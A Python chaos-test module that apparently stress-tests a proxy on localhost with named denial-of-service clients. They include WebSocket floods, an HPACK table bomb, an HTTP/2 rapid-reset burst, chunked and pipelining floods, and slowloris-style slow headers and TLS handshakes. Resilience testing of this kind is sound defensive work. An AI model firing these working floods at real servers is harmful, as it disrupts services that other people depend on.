"""Clients that cost a proxy more than they pay: ``python -m tests.chaos.attacks NAME PORTS SECONDS``.

PORTS are those of HTTP/1.1, of TLS, and of HTTP/2 without TLS, with commas.  An attack is what one connection sends,
again and again on new ones; some hold many connections open.
"""

from __future__ import annotations

import socket
import sys
from collections.abc import Callable
from contextlib import suppress
from time import monotonic, sleep

WEBSOCKET = (
    b"GET /ws HTTP/1.1\r\nHost: www.example.org\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
GET = b"GET /page HTTP/1.1\r\nHost: www.example.org\r\n"
POST = b"POST /page HTTP/1.1\r\nHost: www.example.org\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))
# :method GET or POST, :scheme http, :path /, and :authority a, by the static table of RFC 7541.
BLOCK_GET, BLOCK_POST = b"\x82\x86\x84\x41\x01a", b"\x83\x86\x84\x41\x01a"
HELD = 200

Attack = Callable[[float], None]


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def connect(port: int) -> socket.socket:
    """A connection whose calls are given up after a while."""
    return socket.create_connection(("127.0.0.1", port), 5)


def send_all(port: int, first: bytes, rest: bytes) -> None:
    """Send *first*, await something if there is a *rest*, send that, and read a little."""
    with connect(port) as client:
        client.sendall(first)
        if rest:
            client.recv(65536)
            client.sendall(rest)
        client.settimeout(1)
        client.recv(65536)


def again(port: int, first: bytes, rest: bytes = b"") -> Attack:
    """The same on one connection after the other."""

    def attack(end: float) -> None:
        while monotonic() < end:
            with suppress(OSError):
                send_all(port, first, rest)
            sleep(0.01)

    return attack


def held(port: int, pieces: bytes) -> Attack:
    """Many connections at a time, each of which sends a byte now and then."""

    def attack(end: float) -> None:
        clients = [connect(port) for _ in range(HELD)]
        for at in range(len(pieces)):
            for number, client in enumerate(clients):
                try:
                    client.sendall(pieces[at : at + 1])
                except OSError:
                    client.close()
                    with suppress(OSError):
                        clients[number] = connect(port)
            if monotonic() > end:
                break
            sleep(0.1)
        for client in clients:
            client.close()

    return attack


def table_bomb() -> bytes:
    """Blocks that name an entry of 4,000 bytes thousands of times."""
    # A literal with incremental indexing: the entry is 62 from then on.
    entry = b"\x40\x01x\x7f" + _rest_of_integer(4000 - 127) + b"a" * 4000
    blocks = [_frame(1, 5, 1, BLOCK_GET + entry)]
    blocks += [_frame(1, 5, stream, BLOCK_GET + b"\xbe" * 8000) for stream in range(3, 203, 2)]
    return PREFACE + b"".join(blocks)


def _rest_of_integer(value: int) -> bytes:
    made = b""
    while value > 127:
        made += bytes((value & 127 | 128,))
        value >>= 7
    return made + bytes((value,))


def attacks(plain: int, secure: int, h2: int) -> dict[str, Attack]:
    """Each by its name."""
    tiny = b"\x82\x81\0\0\0\0b"
    upload = PREFACE + _frame(1, 4, 1, BLOCK_POST)
    resets = b"".join(
        _frame(1, 5, stream, BLOCK_GET) + _frame(3, 0, stream, b"\0\0\0\x08") for stream in range(1, 20_001, 2)
    )
    return {
        "websocket-messages": again(plain, WEBSOCKET, tiny * 150_000),
        "websocket-fragments": again(plain, WEBSOCKET, b"\x02\x81\0\0\0\0b" + b"\x00\x81\0\0\0\0b" * 150_000),
        "websocket-pings": again(plain, WEBSOCKET, b"\x89\x81\0\0\0\0b" * 150_000),
        "http2-data": again(h2, upload, _frame(0, 0, 1, b"x") * 100_000),
        "http2-table": again(h2, table_bomb()),
        "http2-resets": again(h2, PREFACE + resets),
        "chunks": again(plain, POST + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 170_000 + b"0\r\n\r\n"),
        "pipeline": again(plain, (GET + b"\r\n") * 10_000),
        "odd-bytes": again(plain, (GET + b"User-Agent: " + b"\xff" * 7000 + b"\r\n\r\n") * 100),
        "slow-heads": held(plain, GET + b"X-Slow: " + b"s" * 1000),
        # The first bytes of a ClientHello.
        "slow-handshakes": held(secure, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(1000)),
    }


if __name__ == "__main__":
    ports = [int(port) for port in sys.argv[2].split(",")]
    attacks(*ports)[sys.argv[1]](monotonic() + float(sys.argv[3]))
